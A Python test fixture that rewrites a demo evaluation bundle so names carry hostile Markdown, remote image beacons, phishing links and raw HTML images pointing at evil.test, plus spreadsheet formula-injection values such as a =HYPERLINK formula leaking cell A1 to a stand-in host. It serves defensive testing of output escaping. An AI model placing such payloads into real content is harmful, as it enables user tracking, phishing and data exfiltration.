"""A project whose *names* are hostile Markdown (issue 15 item 2).

The demo bundle with every name a bundle carries rewritten: models, judges, question and
instruction keys, task types, domains, annotators, the imported plan and the project name,
plus a sample plan whose name is hostile. Each name keeps its old text and gains a remote
image (``![x](http://TAG.evil.test/px.png)``) and a phishing link
(``[click](http://TAG.evil.test/phish)``); ``TAG`` says which field it came from, so a
request or a live link to ``TAG.evil.test`` names the field that leaked. ``evil.test`` is a
reserved name (RFC 2606): nothing ever answers there.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

HOST = "evil.test"


def hostile(value: str, tag: str, *, html: bool = False) -> str:
    """``value`` with a remote image and a link to ``tag``.evil.test (and a raw HTML image)."""
    out = f"{value}![x](http://{tag}.{HOST}/px.png)[click](http://{tag}.{HOST}/phish)"
    return out + (f"<img src=http://{tag}.{HOST}/h.png>" if html else "")


PROJECT = hostile("Project", "project", html=True)
PLAN = hostile("plan", "plan")
# what a hostile link's query parameters carry (echoed by error messages)
URL_VALUE = f"[Your session expired - click here](http://url.{HOST}/phish)![x](http://url.{HOST}/px.png)"

# bundle field -> the tag its hostile names carry
_FIELDS = {
    "model": "model",
    "name@models.jsonl": "model",
    "judge": "judge",
    "judge_a": "judge",
    "judge_b": "judge",
    "name@judges.jsonl": "judge",
    "question": "qkey",
    "key@questions.jsonl": "qkey",
    "instruction": "ikey",
    "key@instructions.jsonl": "ikey",
    "pair_group": "ikey",
    "task_type": "task",
    "domain": "domain",
    "annotator": "annot",
    "plan": "plan",
}


def _rename(name: str, field: str, value, names: dict) -> object:
    tag = _FIELDS.get(f"{field}@{name}") or _FIELDS.get(field)
    if tag is None or not isinstance(value, str) or not value:
        return value
    if field == "plan":
        return PLAN
    key = (tag, value)
    if key not in names:
        names[key] = hostile(value, tag, html=tag == "model")
    return names[key]


def write_bundle(dest: Path) -> dict[tuple[str, str], str]:
    """The demo bundle under ``dest`` with hostile names; returns (tag, old name) → new name."""
    from reform_core.demo import bundle_dir

    src = Path(bundle_dir())
    dest.mkdir(parents=True)
    names: dict[tuple[str, str], str] = {}
    for f in sorted(src.iterdir()):
        if f.name == "bundle.json":
            manifest = json.loads(f.read_text())
            manifest["name"] = PROJECT
            (dest / f.name).write_text(json.dumps(manifest))
        elif f.suffix == ".jsonl":
            rows = [json.loads(line) for line in f.read_text().splitlines() if line.strip()]
            rows = [{k: _rename(f.name, k, v, names) for k, v in r.items()} for r in rows]
            (dest / f.name).write_text("".join(json.dumps(r) + "\n" for r in rows))
        else:
            shutil.copy(f, dest / f.name)
    return names


def load_project(url: str, root: Path) -> dict[tuple[str, str], str]:
    """Import the hostile bundle into the database at ``url``, make its two judges the
    scoring pair and draw a sample plan with a hostile name; returns the name map."""
    from reform_core.services.accounts.users import local_principal
    from reform_core.services.adjudication import adjudication
    from reform_core.services.data.importer import import_bundle
    from reform_core.services.platform.uow import get_engine
    from reform_core.services.scoring import scoring

    names = write_bundle(root / "bundle")
    engine = get_engine(url)
    import_bundle(engine, root / "bundle")
    lead = local_principal(engine)
    a, b = names[("judge", "gpt-judge")], names[("judge", "gemini-judge")]
    scoring.set_pair(engine, lead, a, b)
    adjudication.create_plan(engine, lead, judge_a=a, judge_b=b, seed=0, name=PLAN + " live")
    return names


# ----------------------------------------------------------------------------- formula names (issue 34 item 6)

FORMULA_PREFIXES = ("=", "+", "-", "@")
FORMULA_NOTE = '=HYPERLINK("http://note.evil.test/?"&A1,"Click")'


def formula(value: str, k: int) -> str:
    """``value`` turned into spreadsheet formula text: one of ``= + - @`` in front, then a formula."""
    p = FORMULA_PREFIXES[k % len(FORMULA_PREFIXES)]
    return f'{p}HYPERLINK("http://{k}.evil.test/")&"{value}"' if p == "=" else f"{p}1+1|{value}"


def write_formula_bundle(dest: Path) -> dict[tuple[str, str], str]:
    """The demo bundle under ``dest`` with every name a spreadsheet would run as a formula (models,
    judges, question and instruction keys, task types, domains, annotators, the plan) and every
    adjudication note a ``=HYPERLINK`` formula; returns (tag, old name) → new name."""
    from reform_core.demo import bundle_dir

    src = Path(bundle_dir())
    dest.mkdir(parents=True)
    names: dict[tuple[str, str], str] = {}

    def rename(name: str, field: str, value):
        tag = _FIELDS.get(f"{field}@{name}") or _FIELDS.get(field)
        if tag is None or not isinstance(value, str) or not value:
            return value
        return names.setdefault((tag, value), formula(value, len(names)))

    for f in sorted(src.iterdir()):
        if f.suffix == ".jsonl":
            rows = [json.loads(line) for line in f.read_text().splitlines() if line.strip()]
            rows = [{k: rename(f.name, k, v) for k, v in r.items()} for r in rows]
            if f.name == "adjudications.jsonl":
                rows = [{**r, "note": FORMULA_NOTE} for r in rows]
            (dest / f.name).write_text("".join(json.dumps(r) + "\n" for r in rows))
        else:
            shutil.copy(f, dest / f.name)
    return names
